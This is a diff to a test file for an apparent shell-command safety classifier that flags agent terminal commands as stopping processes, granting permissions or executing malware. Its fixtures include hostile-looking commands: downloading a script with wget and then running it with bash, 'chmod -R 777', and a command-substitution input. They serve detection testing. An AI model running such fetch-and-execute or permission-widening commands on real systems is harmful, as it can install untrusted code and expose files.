@@ -178,12 +178,12 @@ describe.each(Object.entries(answers))("%s", (name, commands) => {
     expect(await findingOf(name, command, ada)).toMatchObject({ value });
   });
 
-  it("can't tell of a command that can't be read", async () => {
+  it("is not false for a command that can't be analyzed", async () => {
     expect(await findingOf(name, "$(cat x) y", ada)).not.toMatchObject({ value: false });
   });
 });
 
-describe("what they say", () => {
+describe("reasons of predicates", () => {
   it.each([
     ["is_stopping_process", "pkill node", "pkill signals node"],
     ["is_granting_permission", "chmod -R 777 src", "chmod changes the mode of src to 777"],
@@ -212,7 +212,7 @@ describe("what they say", () => {
   });
 });
 
-describe("predicates with operands of their own", () => {
+describe("predicates with operands other than code", () => {
   const value = async (name: string, command: string, ...named: readonly unknown[]): Promise<unknown> => {
     const operands = named.map((each) => ({ value: each }));
     return (await evaluate(predicate(name, ada), operands, { command })).value;
@@ -270,7 +270,7 @@ describe("Python programs", () => {
   });
 });
 
-describe("what earlier steps fetched", () => {
+describe("files that earlier steps fetched", () => {
   const after = async (name: string, command: string, ran = true): Promise<unknown> => {
     const fetching = "wget https://x.io/a.sh; curl -o a.deb https://x.io/a";
     const action = { id: "0", name: "Terminal.Execute", args: { command: fetching } };
@@ -278,7 +278,7 @@ describe("what earlier steps fetched", () => {
     return (await evaluate(predicate(name, ada), [], { command }, { trajectory })).value;
   };
 
-  it("is foreign when it runs or is installed", async () => {
+  it("count as foreign code when they run or are installed", async () => {
     expect(await after("is_executing_malware", "bash a.sh")).toBe(true);
     expect(await after("is_executing_malware", "chmod +x a.sh && ./a.sh")).toBe(true);
     expect(await after("is_executing_malware", "bash a.sh", false)).toBe(false);
@@ -288,8 +288,8 @@ describe("what earlier steps fetched", () => {
   });
 });
 
-describe("commands that do very much", () => {
-  it("are not called harmless, and soon", async () => {
+describe("commands with very many effects", () => {
+  it("are unknown rather than harmless, without delay", async () => {
     const many = Array.from({ length: 1500 }, (_, at) => `/*/a${at}*`)
       .join(" ")
       .slice(0, 16_000);
